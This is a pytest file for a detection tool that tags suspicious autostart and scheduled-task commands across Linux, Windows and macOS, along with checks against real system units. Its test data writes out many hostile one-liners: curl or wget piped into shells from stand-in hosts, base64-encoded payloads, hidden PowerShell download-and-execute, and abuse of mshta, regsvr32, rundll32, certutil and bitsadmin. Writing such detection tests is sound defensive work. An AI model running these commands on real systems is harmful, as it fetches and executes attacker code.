"""Behaviour facts: tags for hostile commands and scripts of every platform, none for ordinary ones.

Ordinary inputs are real: the systemd units and cron scripts installed on this machine, the real
artifact files (Windows registry hives and scheduled tasks, macOS launchd jobs, Linux units,
crontabs and autostart files)."""

from __future__ import annotations

import base64
import os
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from techcheck.collectors.linux.systemd import parse_unit
from techcheck.collectors.macos.launchd import parse_launch_job
from techcheck.facts.behaviour import (
    TAGS,
    analyse_command,
    analyse_script,
    folder_tags,
    posing_as_system,
    script_kind,
    split_windows,
)
from tests.conftest import REALDATA

# Tags that, on an entry of unknown origin, make a rule speak. Ordinary entries must earn none.
ALARMING = {"download_exec", "encoded_code", "hidden_window", "script_from_web", "system_name_elsewhere",
            "temp_folder", "hidden_folder", "downloads_folder"}


def ps_enc(code: str) -> str:
    return base64.b64encode(code.encode("utf-16-le")).decode()


HOSTILE = [
    # (command, os, expected interpreter, expected runs, tags that must be there)
    ("curl -fsSL http://x.example/i.sh | sh", "linux", "", "", {"download_exec"}),
    ("/bin/sh -c 'wget -qO- http://203.0.113.9/a | bash'", "linux", "sh", "", {"download_exec", "inline_code"}),
    ('bash -c "$(curl -fsSL https://x.example/a)"', "linux", "bash", "", {"download_exec"}),
    ("bash <(curl -s https://x.example/a)", "linux", "bash", "", {"download_exec"}),
    ("curl -so /tmp/.u http://x.example/u && chmod +x /tmp/.u && /tmp/.u", "linux", "", "", {"download_exec"}),
    ("echo ZWNobyBoaQo= | base64 -d | bash", "linux", "", "", {"encoded_code"}),
    ("eval \"$(echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 --decode)\"", "linux", "", "",
     {"encoded_code", "download_exec"}),
    ("python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\"", "linux", "python", "",
     {"encoded_code", "inline_code"}),
    ("python -c 'import urllib.request as u;exec(u.urlopen(\"http://x.example/p\").read())'", "linux", "python", "",
     {"download_exec", "inline_code"}),
    ("perl -e 'use MIME::Base64;eval(decode_base64(\"cHJpbnQgMQ==\"))'", "linux", "perl", "", {"encoded_code"}),
    ("/usr/bin/python3 /home/ana/.cache/.x/agent.py", "linux", "python", "/home/ana/.cache/.x/agent.py",
     {"hidden_folder", "user_folder"}),
    ("nohup /dev/shm/x -d &", "linux", "", "", {"temp_folder"}),
    ("/home/ana/Downloads/update --quiet", "linux", "", "", {"downloads_folder", "user_folder"}),
    ("/opt/.cache/sshd -D", "linux", "", "", {"system_name_elsewhere", "hidden_folder"}),
    (f"powershell.exe -NoP -W Hidden -enc {ps_enc('IEX (New-Object Net.WebClient).DownloadString(1)')}", "windows",
     "powershell", "", {"encoded_code", "download_exec", "hidden_window"}),
    (f"powershell -EncodedCommand {ps_enc('Start-Sleep 1')}", "windows", "powershell", "", {"encoded_code"}),
    ('powershell -c "IEX(iwr http://x.example/a -UseBasicParsing)"', "windows", "powershell", "",
     {"download_exec", "inline_code"}),
    ("pwsh -WindowStyle Hidden -File C:\\Users\\ana\\AppData\\Roaming\\u.ps1", "windows", "powershell",
     "C:\\Users\\ana\\AppData\\Roaming\\u.ps1", {"hidden_window", "user_folder"}),
    ("powershell.exe -nop -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aQ=='))|iex\"", "windows",
     "powershell", "", {"encoded_code"}),
    ("mshta http://evil.example/a.hta", "windows", "mshta", "http://evil.example/a.hta", {"script_from_web"}),
    ("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\", 0:close\")", "windows",
     "mshta", "", {"inline_code"}),
    ("regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll", "windows", "regsvr32", "http://x.example/a.sct",
     {"script_from_web"}),
    ('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "windows", "rundll32", "",
     {"script_from_web", "inline_code"}),
    ("rundll32.exe C:\\Users\\ana\\AppData\\Local\\Temp\\x.dll,Start", "windows", "rundll32",
     "C:\\Users\\ana\\AppData\\Local\\Temp\\x.dll", {"temp_folder", "user_folder"}),
    ("C:\\Users\\ana\\AppData\\Roaming\\svchost.exe", "windows", "", "", {"system_name_elsewhere", "user_folder"}),
    ("conhost.exe --headless cmd /c C:\\ProgramData\\u.bat", "windows", "cmd", "C:\\ProgramData\\u.bat",
     {"hidden_window"}),
    ("certutil -urlcache -split -f http://x.example/a.exe C:\\Windows\\Temp\\a.exe", "windows", "", "",
     {"download_exec"}),
    ("wscript.exe //B \"C:\\Users\\ana\\AppData\\Roaming\\run.vbs\"", "windows", "wscript",
     "C:\\Users\\ana\\AppData\\Roaming\\run.vbs", {"user_folder"}),
    ("/usr/bin/osascript -e 'do shell script \"curl -s http://x.example | sh\"'", "macos", "osascript", "",
     {"download_exec", "inline_code"}),
    ("/bin/bash /Users/ana/Library/.hidden/run.sh", "macos", "bash", "/Users/ana/Library/.hidden/run.sh",
     {"hidden_folder", "user_folder"}),
    ("'/Users/ana/Library/Application Support/launchd'", "macos", "", "", {"system_name_elsewhere", "user_folder"}),
    ("/bin/sh -c 'echo Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2g= | base64 -D | sh'", "macos", "sh", "",
     {"encoded_code", "download_exec"}),
]


@pytest.mark.parametrize(("command", "os_name", "interpreter", "runs", "tags"), HOSTILE)
def test_hostile_commands_get_their_tags(command: str, os_name: str, interpreter: str, runs: str,
                                         tags: set[str]) -> None:
    found = analyse_command(command, os_name)
    assert tags <= set(found.tags), found
    assert (found.interpreter, found.runs) == (interpreter, runs)


def test_hostile_scripts_get_their_tags() -> None:
    vbs = 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -nop -c calc", 0, False\n'
    assert "hidden_window" in analyse_script(vbs, "vbs").tags
    assert "download_exec" in analyse_script("#!/bin/sh\nwget -q -O - http://x.example/s | sh\n", "sh").tags
    assert "encoded_code" in analyse_script("import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n", "python").tags
    ps1 = "$c = (New-Object Net.WebClient).DownloadString('http://x.example/a')\nInvoke-Expression $c\n"
    assert "download_exec" in analyse_script(ps1, "powershell").tags
    bat = "@echo off\nbitsadmin /transfer j http://x.example/a.exe %TEMP%\\a.exe\nstart %TEMP%\\a.exe\n"
    assert "download_exec" in analyse_script(bat, "bat").tags
    js = 'var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("GET","http://x.example",false);h.send();eval(h.responseText)'
    assert "download_exec" in analyse_script(js, "js").tags
    apple = 'do shell script "curl -s http://x.example/a | bash"'
    assert "download_exec" in analyse_script(apple, "applescript").tags


def test_ordinary_commands_get_no_alarming_tags() -> None:
    ordinary = [
        ("/usr/sbin/cron -f $EXTRA_OPTS", "linux"), ("/bin/sh -c 'exec /usr/bin/foo --x'", "linux"),
        ("/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal", "linux"),
        ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", "linux"),
        ("/home/ana/.local/bin/backup-photos", "linux"), ("flatpak run org.signal.Signal --start-in-tray", "linux"),
        ('"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --no-startup-window', "windows"),
        ("C:\\Windows\\System32\\svchost.exe -k netsvcs -p", "windows"),
        ("%SystemRoot%\\system32\\svchost.exe -k LocalService", "windows"),
        ("\\SystemRoot\\System32\\drivers\\disk.sys", "windows"),
        ('"C:\\Users\\ana\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', "windows"),
        ("C:\\Windows\\system32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL", "windows"),
        ("/usr/libexec/mdmclient agent", "macos"), ("/sbin/launchd", "macos"),
        ("/Applications/Santa.app/Contents/MacOS/Santa", "macos"),
    ]
    for command, os_name in ordinary:
        assert not ALARMING & set(analyse_command(command, os_name).tags), command


def _machine_unit_commands() -> list[str]:
    commands = []
    for folder in ("/lib/systemd/system", "/usr/lib/systemd/user", "/etc/systemd/system"):
        if not os.path.isdir(folder):
            continue
        for name in sorted(os.listdir(folder)):
            path = os.path.join(folder, name)
            if not name.endswith(".service") or not os.path.isfile(path):
                continue
            unit = parse_unit(Path(path).read_text(errors="replace"))
            for key in ("ExecStart", "ExecStartPre", "ExecStartPost", "ExecStop", "ExecReload"):
                commands += [c.lstrip("-@:+!") for c in unit.get("Service", key) if c]
    return commands


def test_real_unit_commands_of_this_machine_get_no_alarming_tags() -> None:
    commands = _machine_unit_commands()
    if len(commands) < 20:
        if os.environ.get("CI") == "true":
            pytest.fail("this machine has too few systemd units to test against")
        pytest.skip("this machine has no systemd units")
    flagged = [(c, analyse_command(c, "linux").tags) for c in commands]
    assert [(c, t) for c, t in flagged if ALARMING & set(t)] == []


def test_real_scripts_of_this_machine_get_no_alarming_tags() -> None:
    scripts = [p for d in ("/etc/cron.daily", "/etc/cron.weekly", "/etc/init.d", "/etc/profile.d",
                           "/etc/update-motd.d", "/etc/X11/Xsession.d")
               if os.path.isdir(d) for p in sorted(Path(d).iterdir()) if p.is_file()]
    scripts += [Path(p) for p in ("/etc/bash.bashrc", "/etc/profile", "/etc/skel/.bashrc", "/etc/skel/.profile")
                if os.path.isfile(p)]
    if len(scripts) < 3:
        pytest.skip("this machine has no start-up scripts to test against")
    for path in scripts:
        text = path.read_text(errors="replace")
        kind = script_kind(str(path), text.split("\n", 1)[0]) or "sh"
        assert analyse_script(text, kind).tags == (), path


def test_real_artifact_files_get_no_alarming_tags() -> None:
    commands: list[tuple[str, str]] = []
    for unit in (REALDATA / "linux/systemd").rglob("*.service"):
        commands += [(c, "linux") for c in parse_unit(unit.read_text()).get("Service", "ExecStart")]
    for desktop in (REALDATA / "linux/autostart").glob("*.desktop"):
        commands += [(line[5:], "linux") for line in desktop.read_text().splitlines() if line.startswith("Exec=")]
    for plist in (REALDATA / "macos").glob("Launch*/*.plist"):
        commands.append((parse_launch_job(plist.read_bytes()).command, "macos"))
    assert len(commands) >= 8
    for command, os_name in commands:
        assert not ALARMING & set(analyse_command(command, os_name).tags), command


def test_real_windows_autostarts_and_tasks(tmp_path: Path) -> None:
    from tests.test_windows_scan import base_image, scan
    from tests.winsupport import MALICIOUS_TASKS, put_task

    result = scan(base_image(tmp_path))
    commands = [str(a.get("command")) for a in result.artifacts
                if a.kind in ("autostart", "service") and a.get("command")]
    assert len(commands) > 50
    assert [c for c in commands if ALARMING & set(analyse_command(c, "windows").tags)] == []
    for task in MALICIOUS_TASKS:
        put_task(tmp_path, task)
    planted = scan(tmp_path)
    tags = {a.get("name"): analyse_command(str(a.get("command")), "windows").tags
            for a in planted.artifacts if a.kind == "autostart" and a.get("mechanism") == "scheduled_task"}
    assert "hidden_window" in tags["\\falshupdate22"] and "temp_folder" in tags["\\GameOver"]


def test_system_names_and_folders() -> None:
    assert posing_as_system("/tmp/systemd", "linux") and not posing_as_system("/usr/lib/systemd/systemd", "linux")
    assert not posing_as_system("sshd", "linux")  # a bare name is looked up on the system path
    assert posing_as_system("C:\\ProgramData\\svchost.exe", "windows")
    assert not posing_as_system("C:\\Windows\\SysWOW64\\svchost.exe", "windows")
    assert posing_as_system("C:\\Windows\\Temp\\lsass.exe", "windows")
    assert folder_tags("C:\\Users\\ana\\Downloads\\x.exe") == {"downloads_folder", "user_folder"}
    assert folder_tags("/usr/bin/x") == set()


def test_split_windows_like_commandlinetoargvw() -> None:
    assert split_windows('"C:\\Program Files\\x.exe" -a "b c" d\\"e') == [
        "C:\\Program Files\\x.exe", "-a", "b c", 'd"e']
    assert split_windows('a\\\\"b c"') == ["a\\b c"]


# --- properties ----------------------------------------------------------------------------------

_OS = st.sampled_from(["linux", "windows", "macos"])
_WORD = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_", min_size=1, max_size=12)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400), _OS)
def test_any_text_gives_known_tags_and_never_fails(command: str, os_name: str) -> None:
    found = analyse_command(command, os_name)
    assert set(found.tags) <= set(TAGS)
    assert set(analyse_script(command, "sh").tags) <= set(TAGS)


@settings(max_examples=100, deadline=None)
@given(_WORD, _WORD, st.sampled_from(["sh", "bash", "/bin/bash", "python3", "sudo bash"]),
       st.sampled_from(["curl -fsSL", "wget -qO-", "curl -s"]))
def test_download_piped_into_a_shell_is_always_found(host: str, path: str, sink: str, fetch: str) -> None:
    assert "download_exec" in analyse_command(f"{fetch} https://{host}.example/{path} | {sink}", "linux").tags


@settings(max_examples=100, deadline=None)
@given(st.text(min_size=1, max_size=200))
def test_base64_into_a_shell_and_encoded_powershell_are_always_found(code: str) -> None:
    b64 = base64.b64encode(code.encode()).decode()
    assert "encoded_code" in analyse_command(f"echo {b64} | base64 -d | sh", "linux").tags
    assert "encoded_code" in analyse_command(f"powershell -enc {ps_enc(code)}", "windows").tags


@settings(max_examples=100, deadline=None)
@given(st.lists(_WORD, min_size=1, max_size=4), st.lists(_WORD, max_size=4),
       st.sampled_from(["/usr/bin", "/usr/sbin", "/usr/libexec", "/opt/app/bin"]))
def test_ordinary_program_lines_get_no_tags(parts: list[str], args: list[str], folder: str) -> None:
    name = "-".join(parts)
    command = " ".join([f"{folder}/{name}", *[f"--{a}" for a in args]])
    if name in ("systemd", "cron", "init", "login", "atd", "sshd"):
        return
    assert analyse_command(command, "linux").tags == ()


def test_huge_hostile_input_is_quick() -> None:
    start = time.monotonic()
    analyse_command("curl " + "a|" * 200_000 + " sh", "linux")
    analyse_command('"' * 100_000 + "powershell -enc " + "A" * 100_000, "windows")
    analyse_script("base64 -d " * 100_000, "sh")
    analyse_script(("x" * 5000 + "\n") * 200, "vbs")
    assert time.monotonic() - start < 2.0
